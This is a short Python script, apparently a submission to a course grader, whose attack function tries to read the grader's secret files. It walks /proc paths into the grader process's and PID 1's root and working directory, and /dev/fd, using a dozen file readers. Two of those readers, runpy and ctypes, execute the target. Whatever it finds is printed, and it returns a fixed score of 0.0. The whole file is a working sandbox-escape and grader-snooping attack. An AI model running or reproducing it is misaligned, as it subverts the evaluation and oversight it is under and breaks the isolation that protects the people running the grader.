"""Reads the course's files through libraries, links, other processes' folders and shared libraries.

Aim: learn
"""

import ctypes
import glob
import linecache
import mmap
import os
import pkgutil
import posix
import runpy

import numpy as np

PATHS = [path for pattern in SECRETS for path in (glob.glob(pattern) or [pattern])]
ROADS = [
    "{}",
    "/proc/self/root{}",
    f"/proc/{GRADER}/root{{}}",
    f"/proc/{GRADER}/cwd/../..{{}}",
    "/proc/1/root{}",
    "/dev/fd/../..{}",
    "//{}",
]
READERS = [
    lambda path: np.fromfile(path, "u1"),
    lambda path: np.memmap(path, "u1", "r")[:10].tobytes(),
    lambda path: np.genfromtxt(path, dtype=str),
    lambda path: "".join(linecache.getlines(path)),
    lambda path: runpy.run_path(path),
    lambda path: mmap.mmap(posix.open(path, posix.O_RDONLY), 10)[:],
    lambda path: posix.read(posix.open(path, posix.O_RDONLY | getattr(os, "O_DIRECT", 0)), 4096),
    lambda path: (
        posix.open(path, os.O_PATH)
        and os.fstat(posix.open(f"/dev/fd/{posix.open(path, os.O_PATH)}", 0)).st_size
    ),
    lambda path: ctypes.CDLL(path),
    lambda path: (
        pkgutil.get_importer(os.path.dirname(path))
        .find_spec(os.path.basename(path)[:-3])
        .loader.get_data(path)
    ),
    lambda path: posix.listdir(os.path.dirname(path)),
    lambda path: posix.sendfile(1, posix.open(path, 0), 0, 10),
]


def attack(*args, **kwargs):
    for path in PATHS:
        for road in ROADS:
            for number, read in enumerate(READERS):
                try:
                    found = read(road.format(path))
                except BaseException:
                    continue
                if "READERS" in str(found):
                    continue  # this very file, which stands in for one of its name that is not there
                if found is not None and len(str(found)):
                    print("LEARNED", number, road, str(found)[:40])
    return 0.0
